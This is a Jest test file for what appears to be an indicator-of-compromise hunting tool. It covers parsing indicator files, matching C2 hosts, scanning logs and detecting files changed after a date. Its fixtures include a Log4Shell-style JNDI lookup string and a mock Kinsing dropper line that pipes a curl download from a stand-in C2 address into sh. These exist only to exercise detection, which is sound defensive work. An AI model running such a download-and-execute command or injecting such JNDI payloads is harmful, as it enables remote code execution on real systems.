import { mkdtempSync, mkdirSync, rmSync, utimesSync, writeFileSync, symlinkSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import path from 'node:path';
import {
  findChangedFiles,
  globMatch,
  hunt,
  IndicatorMatcher,
  loadIndicatorDir,
  parseIndicatorFile,
  type HuntHit,
} from '../src';

let dir: string;
const at = (...p: string[]): string => path.join(dir, ...p);

beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'hunt-ioc-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('indicator sets (Fenrir layout)', () => {
  it('parses values, descriptions and comments, and names bad lines', () => {
    const parsed = parseIndicatorFile(
      'hashes',
      '# comment\nd41d8cd98f00b204e9800998ecf8427e;empty file\nnot-a-hash;x\n',
    );
    expect(parsed.value).toEqual([
      { type: 'hash', value: 'd41d8cd98f00b204e9800998ecf8427e', description: 'empty file' },
    ]);
    expect(parsed.warnings).toEqual([
      'hash-iocs.txt line 3: not an MD5, SHA-1 or SHA-256 hash: "not-a-hash"',
    ]);
    // Strings may hold `;`: the whole line is the string.
    expect(parseIndicatorFile('strings', 'a;b\n').value).toEqual([
      { type: 'string', value: 'a;b' },
    ]);
  });

  it('refuses a directory with no indicator file, naming it', async () => {
    mkdirSync(at('empty'));
    await expect(loadIndicatorDir(at('empty'))).rejects.toThrow(
      `indicator directory ${at('empty')} holds none of`,
    );
  });

  it('matches globs linearly (a hostile path and pattern finish)', () => {
    expect(globMatch('/tmp/*.sh', '/tmp/x.sh')).toBe(true);
    expect(globMatch('/tmp/*.sh', '/tmp/a/x.sh')).toBe(false);
    expect(globMatch('/tmp/**.sh', '/tmp/a/x.sh')).toBe(true);
    expect(globMatch('*a*a*a*a*a*a*a*b', 'a'.repeat(4000))).toBe(false);
  });

  it('matches C2 hosts and their subdomains, case-insensitively', () => {
    const m = new IndicatorMatcher({
      hashes: [],
      strings: [],
      filenames: [],
      c2: [{ type: 'c2', value: 'c2.example' }],
    });
    expect(m.matchHost('x.C2.example')?.value).toBe('c2.example');
    expect(m.matchHost('notc2.example')).toBeUndefined();
  });

  it('finds strings and C2 addresses in log lines, C2 callback hosts on JNDI hits, and files by hash and name', async () => {
    mkdirSync(at('iocs'));
    writeFileSync(at('iocs', 'string-iocs.txt'), 'Basic/Command/Base64\n');
    writeFileSync(at('iocs', 'c2-iocs.txt'), '203.0.113.7;kinsing C2\nc2.example\n');
    mkdirSync(at('logs'));
    writeFileSync(
      at('logs', 'app.log'),
      [
        'ok',
        'connect to 203.0.113.7 port 80',
        '${jndi:ldap://x.c2.example/Basic/Command/Base64/d2dldA==}',
        'ok',
      ].join('\n'),
    );
    const dropped = Buffer.from('#!/bin/sh\ncurl http://203.0.113.7/k | sh\n');
    mkdirSync(at('tmp'));
    writeFileSync(at('tmp', 'kinsing'), dropped);
    writeFileSync(
      at('iocs', 'hash-iocs.txt'),
      `${createHash('sha256').update(dropped).digest('hex')};kinsing dropper\n`,
    );
    writeFileSync(at('iocs', 'filename-iocs.txt'), '/tmp/kinsing;dropper name\n');
    const { set, warnings } = await loadIndicatorDir(at('iocs'));
    expect(warnings).toEqual([]);
    const hits: HuntHit[] = [];
    await hunt(
      { paths: [at('logs')], indicators: new IndicatorMatcher(set), indicatorPaths: [at('tmp')] },
      {
        hit: (h) => hits.push(h),
        error: (e) => {
          throw new Error(e.error);
        },
      },
    );
    expect(
      hits.map((h) => [
        path.basename(h.file),
        h.line,
        h.kind,
        h.indicator?.type,
        h.indicator?.value,
      ]),
    ).toEqual([
      ['app.log', 2, 'indicator', 'c2', '203.0.113.7'],
      ['app.log', 3, 'jndi', 'c2', 'c2.example'],
      ['app.log', 3, 'indicator', 'string', 'Basic/Command/Base64'],
      ['kinsing', 0, 'indicator', 'filename', '/tmp/kinsing'],
      ['kinsing', 0, 'indicator', 'hash', expect.stringMatching(/^[0-9a-f]{64}$/)],
    ]);
  });
});

describe('configuration changed after a date', () => {
  it('lists files changed at or after the date with owner, mode and which time moved, newest first', async () => {
    mkdirSync(at('conf', 'app'), { recursive: true });
    writeFileSync(at('conf', 'old.xml'), 'x');
    writeFileSync(at('conf', 'app', 'log4j2.xml'), '<Configuration/>');
    symlinkSync('/etc/passwd', at('conf', 'app', 'link'));
    writeFileSync(
      at('passwd'),
      `hunter:x:${process.getuid?.() ?? 0}:0::/home/hunter:/bin/sh\nother:x:4242:0::/:/bin/sh\n`,
    );
    const old = new Date('2021-11-01T00:00:00Z');
    utimesSync(at('conf', 'old.xml'), old, old);
    const sinceMs = Date.now() - 60_000;
    const changed = await findChangedFiles({
      paths: [at('conf')],
      sinceMs,
      passwdFile: at('passwd'),
    });
    expect(changed.map((c) => [path.relative(dir, c.path), c.changed]).sort()).toEqual([
      ['conf/app/link', 'mtime'],
      ['conf/app/log4j2.xml', 'mtime'],
      // utimes sets mtime back, but moves ctime: the change still shows.
      ['conf/old.xml', 'ctime'],
    ]);
    const xml = changed.find((c) => c.path.endsWith('log4j2.xml'));
    expect(xml).toMatchObject({ size: 16, mode: expect.stringMatching(/^0[0-7]{3,4}$/) });
    expect(xml?.owner).toBe('hunter');
  });
});
